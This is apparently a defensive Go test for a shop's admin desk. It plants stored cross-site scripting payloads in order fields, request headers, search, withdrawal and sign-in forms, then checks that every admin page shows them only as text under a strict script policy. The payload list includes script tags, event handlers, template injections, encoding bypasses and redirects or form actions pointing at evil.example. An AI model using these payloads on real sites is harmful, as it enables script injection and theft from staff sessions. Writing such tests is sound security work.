package attack

import (
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"strongroom/base/db"
	"strongroom/base/id"
	"strongroom/cmd/strongroom/app"
	"strongroom/front/admin"
	"strongroom/guard/privacy"
	"strongroom/guard/vault"
	"strongroom/tools/shopper"
)

// What a shopper types may reach the eyes of staff in text, in attributes, in titles, in addresses and in the log. Each of
// these asks for a script, a request elsewhere or a change of the page in one of these places; whatever works calls xss.
var payloads = []string{
	`"><script>xss(1)</script>`, `<img src=x onerror=xss(2)>`, `<svg onload=xss(3)>`, `'-xss(4)-'`, `"onfocus=xss(5) autofocus="`,
	`</title><script>xss(6)</script>`, `</textarea><script>xss(7)</script>`, `</style><script>xss(8)</script>`, `--><script>xss(9)</script>`,
	`javascript:xss(10)`, `<a href="javascript:xss(11)">x</a>`, `<iframe srcdoc="<script>xss(12)</script>"></iframe>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href="//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import "//evil.example/x.css";</style>`, `<form action=//evil.example><button>x`, `<details open ontoggle=xss(13)>`,
	`<body onpageshow=xss(14)>`, `<object data="data:text/html,<script>xss(15)</script>">`, `<math><mtext><img src=x onerror=xss(16)>`,
	`{{constructor.constructor('xss(17)')()}}`, `${xss(18)}`, `<%= xss(19) %>`, `&lt;script&gt;xss(20)&lt;/script&gt;`, `\u003cscript\u003exss(21)\u003c/script\u003e`,
	`%3Cscript%3Exss(22)%3C/script%3E`, `＜script＞xss(23)＜/script＞`, `<template><script>xss(24)</script>`, `<plaintext>`, `<!--`, `<input name=form_token>`,
	`<form id=x><input name=attributes>`, `<img name=body>`, `" style="position:fixed;inset:0`, `#"><img src=//evil.example/p.png>`,
}

// fields are what the details page asks for, by the sort of what goes in. What does not look like an address, a postcode or
// a number is refused there already, so that these get what still passes.
var fields = []string{"name", "company", "street", "line2", "city", "region", "note", "billing.name", "billing.street", "billing.city"}

// addresses are e-mail addresses that pass, with as much in them as an address may hold.
var addresses = []string{"'-xss-'@buyer.example", "{{xss}}@buyer.example", "$`xss`@buyer.example", "x'onerror='xss@buyer.example", "plain@buyer.example"}

// storedScripts plants scripts in every field that a customer fills, and in what her browser says of itself, and has the
// owner open every page of the desk, with the personal data in clear (V1.1.2, V1.2.1, V3.2.2).
func storedScripts(t *testing.T, s *site) string {
	o := openOffice(t, s)
	list := append([]string(nil), payloads...)
	if full {
		list = append(list, short(corpus(t, "941-APPLICATION-ATTACK-XSS"), 60)...)
	}
	var numbers []string
	for n := 0; n < len(list); n += len(fields) {
		who := shopper.Somebody(addresses[n/len(fields)%len(addresses)])
		for i, field := range fields {
			who[field] = list[(n+i)%len(list)]
		}
		numbers = append(numbers, o.order(t, who))
	}
	o.seal(t, list, numbers)
	o.elsewhere(t, list)
	return o.readEverything(t, list, numbers, addresses[0])
}

// short are those that fit into a field of the shop.
func short(all []string, most int) (out []string) {
	for _, v := range all {
		if len(v) <= most && strings.TrimSpace(v) == v && !strings.ContainsAny(v, "\x00\r\n\t\\") {
			out = append(out, v)
		}
	}
	return out
}

// order places a paid order, with a browser that lies about itself. The shop takes no pointed brackets in an address; what
// it refuses is left out here and sealed later, as by somebody who got past the form.
func (o *office) order(t *testing.T, who shopper.Person) string {
	t.Helper()
	for field, v := range who {
		if strings.ContainsAny(v, "<>") {
			delete(who, field)
			if plain := shopper.Somebody("")[field]; plain != "" {
				who[field] = plain
			}
		}
	}
	v := o.stranger()
	v.Headers = http.Header{"User-Agent": {payloads[0]}, "Referer": {o.Shop + "/en/" + url.PathEscape(payloads[1])}, "Accept-Language": {"en," + payloads[2]}}
	x, err := v.Buy(t.Context(), o.Shop, "/en/p/bowl", who, shopper.Paid)
	if err != nil {
		t.Fatalf("%v: %v", err, who)
	}
	return x.Number
}

// columns are those of an order's personal data, with the fields that they are sealed as.
var columns = map[string]*privacy.Declaration{"note": privacy.OrderNote, "delivery_name": privacy.OrderDeliveryName,
	"delivery_company": privacy.OrderDeliveryCompany, "delivery_street": privacy.OrderDeliveryStreet, "delivery_line2": privacy.OrderDeliveryLine2,
	"delivery_city": privacy.OrderDeliveryCity, "delivery_region": privacy.OrderDeliveryRegion, "billing_name": privacy.OrderBillingName,
	"billing_company": privacy.OrderBillingCompany, "billing_street": privacy.OrderBillingStreet, "billing_city": privacy.OrderBillingCity}

// seal writes payloads into the orders behind the shop's back, in every field.
func (o *office) seal(t *testing.T, list, numbers []string) {
	t.Helper()
	fatal(t, o.Stop())
	folder := filepath.Join(o.Dir, "data")
	s, err := app.OpenKeys(t.Context(), app.Config{Place: app.Place{Folder: folder, Data: o.Data, Keys: o.Keys, KeyFile: filepath.Join(folder, "keys", "root.key")}})
	fatal(t, err)
	defer o.Start()
	defer s.Close()
	next := 0
	for _, number := range numbers {
		var order, subject id.ID
		o.change(t, func(tx *db.Tx) error {
			return tx.QueryRow("SELECT id, subject FROM order_head WHERE number = $1", number).Scan(&order, &subject)
		})
		for _, column := range slices.Sorted(maps.Keys(columns)) {
			sealed, err := s.Vault.Seal(t.Context(), columns[column].Field, subject, order, vault.Typed(list[next%len(list)]))
			fatal(t, err)
			o.change(t, func(tx *db.Tx) error {
				_, err := tx.Exec("UPDATE order_personal SET "+column+" = $1 WHERE order_id = $2", sealed, order)
				return err
			})
			next++
		}
	}
}

// elsewhere plants them in everything else that strangers may say: search, code, withdrawal, sign-in, links, addresses.
func (o *office) elsewhere(t *testing.T, list []string) {
	t.Helper()
	for i, v := range list {
		c := o.stranger()
		c.Headers = http.Header{"User-Agent": {v}}
		for _, path := range []string{"/en/search?q=" + url.QueryEscape(v), "/en/" + url.PathEscape(v), "/en/order/open/" + url.PathEscape(v)} {
			_, err := c.Get(t.Context(), o.Shop+path)
			fatal(t, err)
		}
		if p, err := c.Get(t.Context(), o.Shop+"/en/withdraw"); err == nil {
			if f, err := p.Form("/withdraw"); err == nil {
				p, err := c.Submit(t.Context(), f, url.Values{"name": {v}, "number": {v}, "email": {addresses[i%len(addresses)]}, "statement": {v}})
				fatal(t, err)
				if f, err := p.Form("/withdraw/confirm"); err == nil {
					_, err := c.Submit(t.Context(), f, nil)
					fatal(t, err)
				}
			}
		}
		d := o.visitor()
		if p := o.get(d, "/sign-in"); strings.Contains(string(p.Body), "/sign-in/password") {
			o.send(d, p, "/sign-in/password", url.Values{"email": {v}, "password": {v}})
		}
		o.get(d, "/enter/"+url.PathEscape(v))
	}
}

// pages are the addresses of all pages of the desk as the owner would open them.
func (o *office) pages(t *testing.T, numbers []string, entries []string) (out []string) {
	t.Helper()
	for _, a := range admin.Addresses() {
		switch {
		case a.Method != http.MethodGet || strings.Contains(a.Path, "{token}") || strings.Contains(a.Path, "{file}"):
		case strings.Contains(a.Path, "{number}"):
			for _, n := range numbers {
				out = append(out, strings.ReplaceAll(a.Path, "{number}", n))
			}
		case strings.Contains(a.Path, "{entry}"):
			for _, e := range entries {
				out = append(out, strings.ReplaceAll(a.Path, "{entry}", e))
			}
		default:
			out = append(out, strings.NewReplacer("{member}", "new", "{role}", "new", "{handle}", "bowl", "{sku}", "BOWL-1").Replace(a.Path))
		}
	}
	for _, v := range payloads[:size(6, len(payloads))] {
		out = append(out, "/find?q="+url.QueryEscape(v), "/orders?number="+url.QueryEscape(v), "/log?action="+url.QueryEscape(v), "/staff/"+url.PathEscape(v))
	}
	return out
}

var entryOf = regexp.MustCompile(`/log/entries/([0-9a-f]{32})`)

// entriesIn are the entries that a page of the log leads to.
func entriesIn(page string) (out []string) {
	for _, m := range entryOf.FindAllStringSubmatch(page, -1) {
		out = append(out, m[1])
	}
	return out
}

// alive are the beginnings of what was planted that no page may hold as markup.
var alive = regexp.MustCompile(`(?i)<(script>|img src=x|svg on|iframe|meta http-equiv=refresh|base |object|math|plaintext|details open on|body on|style>@|input name=form_token>)|xss\(5\) autofocus="|href="javascript:`)

// readPages has the owner read all pages over plain HTTP: nothing of what was planted stands there as markup, and the
// policy of each page would let none of it run.
func (o *office) readPages(t *testing.T, list, numbers []string, email string) string {
	t.Helper()
	owner := o.come(o.SetUpLink(), "Ida", 2)
	read, clear := 0, 0
	look := func(p *shopper.Page) {
		t.Helper()
		read++
		if m := alive.Find(p.Body); m != nil {
			t.Errorf("%s holds %s", p.URL, m)
		}
		if csp := p.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") && !strings.Contains(csp, "script-src 'none'") || strings.Contains(csp, "unsafe-inline") {
			t.Errorf("%s has the policy %q", p.URL, csp)
		}
	}
	for _, path := range o.pages(t, numbers, entriesIn(string(o.get(owner, "/log").Body))) {
		look(o.get(owner, path))
	}
	for _, n := range numbers {
		p := o.send(owner, o.get(owner, "/orders/"+n), "/reveal", url.Values{"reason": {"question"}})
		look(p)
		if strings.Contains(string(p.Body), "&lt;") {
			clear++
		}
	}
	look(o.send(owner, o.get(owner, "/orders"), "/look-up", url.Values{"email": {email}}))
	look(o.send(owner, o.get(owner, "/orders"), "/packing/take", nil))
	look(o.send(owner, o.get(owner, "/orders"), "/packing/slips", nil))
	if clear < len(numbers)-1 {
		t.Errorf("of %d orders only %d show what was planted", len(numbers), clear)
	}
	return fmt.Sprintf("%d payloads in %d orders, searches, links, withdrawals and sign-ins; %d pages read: text everywhere", len(list), len(numbers), read)
}
